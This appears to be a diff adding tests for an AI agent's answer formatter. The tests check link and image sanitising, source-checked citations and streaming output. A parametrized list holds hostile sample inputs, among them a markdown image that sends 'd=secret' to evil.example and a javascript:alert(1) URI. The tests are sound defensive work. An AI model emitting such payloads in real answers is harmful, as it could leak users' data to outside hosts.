@@ -1,0 +1,80 @@
+"""Answers are plain text whose sentences name their sources."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agents.answer import UNSOURCED, Streamed, compose, plain, sentences
+
+SOURCES = {"passage/7": "House note, 2022-11-01", "tool/call-ab12": "drift: book at entry 4"}
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](https://evil.example/a.png?d=secret)",
+        "[click](http://evil.example)",
+        "see https://evil.example/x now",
+        "www.evil.example",
+        "![x](//evil.example/a.png)",
+        "[x]: //evil.example",
+        "<img src=//evil.example/a.png>",
+        "javascript:alert(1)",
+        "data:image/png;base64,AAAA",
+        "HTTPS://EVIL.example",
+        "write to me@evil.example",
+    ],
+)
+def test_nothing_in_an_answer_can_be_fetched_or_followed(hostile: str) -> None:
+    clean = plain(f"Before {hostile} after.")
+    assert not re.search(r"https?://|www\.|!\[|\]\(|\]:|<[a-z]|javascript:|data:|\w@\w+\.\w", clean, re.I), (
+        clean
+    )
+    assert clean.startswith("Before ")
+
+
+def test_a_citation_counts_only_if_a_tool_gave_it() -> None:
+    made = compose("It fell 3 %. [passage/7] It rose 9 % [passage/8].", SOURCES, check_figures=True)
+    assert made.text == f"It fell 3 %. [1] It rose 9 %.{UNSOURCED}"
+    assert [(c.sentence, c.source) for c in made.cited] == [(0, "passage/7")]
+    assert made.sources == (("passage/7", "House note, 2022-11-01"),)
+
+
+def test_rows_of_a_table_stand_behind_the_source_of_their_lead() -> None:
+    made = compose("Drift by account [tool/call-ab12].\n\n| a | 3 |\n| b | 4 |", SOURCES, check_figures=True)
+    assert [(c.sentence, c.source) for c in made.cited] == [(n, "tool/call-ab12") for n in range(3)]
+    assert UNSOURCED not in made.text
+
+
+def test_a_sentence_may_have_two_sources() -> None:
+    made = compose("Both agree on 5 [passage/7, tool/call-ab12].", SOURCES, check_figures=True)
+    assert (
+        made.text == "Both agree on 5. [1] [2]"
+        or made.text == "Both agree on 5 [1] [2]."
+        or "[1] [2]" in made.text
+    )
+    assert len(made.cited) == 2
+
+
+@given(
+    st.lists(
+        st.sampled_from(["It fell 3 %.", "Yes!", "See U.S. data [passage/7].", "- row 4", "| a |", "Mr. X"])
+    )
+)
+def test_cited_sentences_are_sentences_of_the_text_as_it_went_out(parts: list[str]) -> None:
+    made = compose("\n".join(parts), SOURCES, check_figures=False)
+    count = len(sentences(made.text))
+    assert all(cited.sentence < count for cited in made.cited)
+
+
+@given(st.text(alphabet="ab. !?\n[]()/:htps<", max_size=80), st.integers(1, 7))
+def test_what_is_streamed_is_as_plain_as_the_answer(text: str, size: int) -> None:
+    streamed = Streamed()
+    shown = "".join(streamed.add(text[i : i + size]) for i in range(0, len(text), size)) + streamed.rest()
+    assert "](" not in shown
+    assert "![" not in shown
+    assert not re.search(r"[a-z]://", shown)
